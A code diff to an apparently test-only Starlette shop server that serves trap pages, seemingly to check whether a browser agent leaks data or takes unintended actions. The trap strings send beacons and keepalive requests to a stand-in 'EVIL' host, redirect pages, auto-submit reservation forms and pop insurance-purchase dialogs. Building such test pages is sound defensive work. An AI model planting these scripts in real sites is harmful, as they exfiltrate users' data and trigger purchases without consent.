@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import datetime as dt
 import json
 import threading
 import time
@@ -138,9 +139,7 @@ def build(shop: Shop) -> Starlette:
         if shop.mode == "redirect_303":
             return RedirectResponse(f"{shop.evil}/landing", 303)
         form = await request.form()
-        from datetime import date
-
-        day = date.fromisoformat(str(form["date"]))
+        day = dt.date.fromisoformat(str(form["date"]))
         key = str(len(shop.holds) + 1)
         shop.holds[key] = {
             "name": NAMES[str(form["slug"])] if shop.mode != "swapped" else "Cellar",
@@ -192,7 +191,8 @@ def build(shop: Shop) -> Starlette:
             answer.set_cookie("who", str((await request.form())["name"]), max_age=86400)
             return answer
         return page(
-            "<form method=post><label>Name <input name=name></label><input type=password name=p><button>Log in</button></form>",
+            "<form method=post><label>Name <input name=name></label><input type=password name=p>"
+            "<button>Log in</button></form>",
             None,
         )
 
@@ -200,7 +200,7 @@ def build(shop: Shop) -> Starlette:
         return JSONResponse({}, headers={"access-control-allow-origin": "*"})
 
     async def worker(request: Request) -> Response:
-        script = f"fetch('{shop.evil}/worker', {{method: 'POST', mode: 'no-cors', body: 'x'}}); fetch('/worker-own', {{method: 'POST'}});"
+        script = f"fetch('{shop.evil}/worker', {{method: 'POST', mode: 'no-cors'}}); fetch('/own', {{method: 'POST'}})"
         return Response(script, media_type="text/javascript")
 
     routes = [
@@ -230,7 +230,8 @@ def build(shop: Shop) -> Starlette:
 TRAPS = {
     "beacon": "<script>navigator.sendBeacon('/beacon', 'x'); navigator.sendBeacon('EVIL/beacon', 'x')</script>",
     "keepalive": "<script>addEventListener('pagehide', () => {fetch('/ka', {method: 'POST', keepalive: true}); "
-    "fetch('EVIL/ka', {method: 'POST', keepalive: true, mode: 'no-cors'}); navigator.sendBeacon('EVIL/bye', 'x')})</script>",
+    "fetch('EVIL/ka', {method: 'POST', keepalive: true, mode: 'no-cors'}); "
+    "navigator.sendBeacon('EVIL/bye', 'x')})</script>",
     "worker": "<script>new Worker('/worker.js'); new SharedWorker('/worker.js'); "
     "navigator.serviceWorker.register('/worker.js').catch(() => {})</script>",
     "popup": "<script>open('EVIL/popup'); setTimeout(() => document.querySelector('a').click())</script>"
@@ -241,13 +242,12 @@ TRAPS = {
     "<link rel=prefetch href='EVIL/pre'><link rel=preconnect href='EVIL'>",
     "leave": "<script>location = 'EVIL/landing'</script>",
     "meta": "<meta http-equiv=refresh content='0;url=EVIL/landing'>",
-    "autopost": "<form method=post action=/reservations id=f><input name=hold value=1></form><script>f.submit()</script>",
-    "dialog": "<script>setTimeout(() => { if (confirm('Buy insurance?')) fetch('/insurance', {method: 'POST'}) })</script>",
+    "autopost": "<form method=post action=/reservations id=f><input name=hold></form><script>f.submit()</script>",
+    "dialog": "<script>setTimeout(() => { if (confirm('Insure?')) fetch('/insurance', {method: 'POST'}) })</script>",
 }
 REVIEW_TRAPS = {
     "double": "<script>document.forms[0].addEventListener('submit', () => {"
     "fetch('/reservations', {method: 'POST', keepalive: true, body: new URLSearchParams({hold: 1})})})</script>",
-    "swap_on_click": "",
     "two_buttons": "<button>Complete reservation</button>",
     "never_sends": "<script>document.forms[0].onsubmit = () => false</script>",
     "early": "<script>fetch('/reservations', {method: 'POST', body: new URLSearchParams({hold: 1})})</script>",
